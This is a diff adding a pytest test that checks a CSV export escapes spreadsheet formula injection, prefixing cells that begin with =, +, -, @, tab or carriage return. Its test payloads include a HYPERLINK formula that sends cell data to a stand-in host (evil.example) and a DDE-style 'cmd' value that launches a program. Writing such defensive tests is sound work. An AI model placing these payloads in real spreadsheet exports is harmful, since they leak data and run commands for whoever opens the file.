@@ -189,3 +189,15 @@ def test_exports_carry_a_citation_per_row():
     document = json.loads(export.to_json(hits, query="oil", settings={"mode": "hybrid"}))
     assert document["query"] == "oil" and document["results"][0]["citation"] == rows[0]["citation"]
     assert document["results"][0]["passage"].startswith("Oil <b>rose</b>")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_inert(start):
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    hits = [hit(title=payload, source=payload, url=f"{start}cmd|' /C calc'!A0", article_id=f"{start}1+1")]
+    row = next(csv.DictReader(io.StringIO(export.to_csv(hits).decode("utf-8-sig"), newline="")))
+    for name in ("outlet", "url", "article_id"):
+        assert row[name] == "'" + (payload if name == "outlet" else hits[0].url if name == "url" else f"{start}1+1")
+    if start.strip():  # titles and citations are shown on one line: leading whitespace is gone there anyway
+        assert row["title"] == "'" + payload and row["citation"].startswith("'")
+    assert row["rank"] == "1" and not row["score"].startswith("'")  # numbers stay numbers
